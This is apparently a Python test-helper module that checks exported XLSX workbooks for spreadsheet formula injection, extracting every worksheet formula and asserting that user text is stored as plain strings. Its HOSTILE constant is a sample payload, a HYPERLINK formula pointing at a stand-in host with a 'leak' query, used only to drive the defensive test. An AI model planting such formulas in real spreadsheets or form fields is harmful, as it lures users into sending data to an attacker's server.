"""Looking inside XLSX files for formulas: what a test asserts about formula injection (issue 14.1)."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

#: What a hostile user types (a narrative, a unit's name, a plan's title...).
HOSTILE = '=HYPERLINK("http://evil.example/?leak","click")'
_FORMULA = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>", re.DOTALL)


def formulas(content: bytes) -> list[str]:
    """Every formula (``<f>`` element) of every worksheet of the XLSX ``content``."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
            for formula in _FORMULA.findall(archive.read(name).decode("utf-8"))
        ]


def assert_no_hostile_formula(content: bytes) -> None:
    """No formula of the workbook holds user text (the hostile link's host or function)."""
    found = [f for f in formulas(content) if "evil.example" in f or "HYPERLINK" in f.upper()]
    assert not found, f"user text written as formulas: {found}"


def cells_holding(content: bytes, text: str) -> list[str]:
    """The cells whose value is exactly ``text`` (stored as text, not as a formula)."""
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text and cell.data_type == "s"
    ]
